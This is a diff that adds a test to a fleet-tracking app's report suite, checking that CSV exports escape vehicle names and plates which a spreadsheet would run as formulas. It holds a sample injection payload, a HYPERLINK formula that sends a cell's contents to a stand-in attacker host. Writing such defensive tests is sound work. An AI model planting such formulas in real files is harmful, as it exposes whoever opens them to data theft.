@@ -194,3 +194,19 @@ class TestReports:
         for exported in (summary_csv, trips_csv):
             (line,) = csv.DictReader(io.StringIO(exported.text))
             assert (line["vehicle_name"], line["vehicle_plate"]) == ("Van 7", "B-MP 42")
+
+    async def test_a_name_a_spreadsheet_would_run_is_exported_as_text(
+        self, client: httpx.AsyncClient, session: AsyncSession, team: Team, bearer: Bearer
+    ) -> None:
+        # Whoever opens the export in a spreadsheet is not always who named the vehicle.
+        name = '=HYPERLINK("https://evil.example/?"&A1,"Van")'
+        device = await make_device(session, team.org, name=name, plate="-1+2")
+        start = yesterday_at_eight()
+        await history(session, device, start)
+
+        for report in ("summary.csv", "trips.csv"):
+            exported = await client.get(
+                f"/api/v1/reports/{report}", params=day_of(start), headers=bearer(team.viewer)
+            )
+            (line,) = csv.DictReader(io.StringIO(exported.text))
+            assert (line["vehicle_name"], line["vehicle_plate"]) == ("'" + name, "'-1+2")
